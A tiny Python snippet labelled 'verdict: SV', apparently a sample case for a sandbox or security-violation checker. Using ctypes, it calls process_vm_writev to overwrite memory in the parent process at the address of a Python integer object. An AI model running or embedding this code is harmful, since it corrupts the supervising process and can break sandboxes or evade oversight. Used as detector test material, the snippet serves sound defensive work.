# verdict: SV
import ctypes, os
class IO(ctypes.Structure):
    _fields_ = [('at', ctypes.c_void_p), ('size', ctypes.c_size_t)]
data = ctypes.create_string_buffer(8)
here, there = IO(ctypes.addressof(data), 8), IO(id(1), 8)
ctypes.CDLL(None).process_vm_writev(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
